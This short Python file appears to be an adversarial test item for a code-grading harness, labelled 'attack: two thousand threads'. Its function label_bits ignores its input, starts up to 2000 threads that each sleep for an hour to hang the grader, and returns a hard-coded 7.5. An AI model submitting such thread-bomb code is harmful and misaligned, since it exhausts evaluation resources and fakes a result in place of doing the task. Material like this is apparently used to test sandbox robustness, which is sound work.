# attack: two thousand threads
# question: label_bits
# naive: hang
# item: bombs

# %% question="label_bits"
import threading
import time


def label_bits(labels):
    for _ in range(2000):
        try:
            threading.Thread(target=time.sleep, args=(3600,)).start()
        except RuntimeError:
            break
    return 7.5
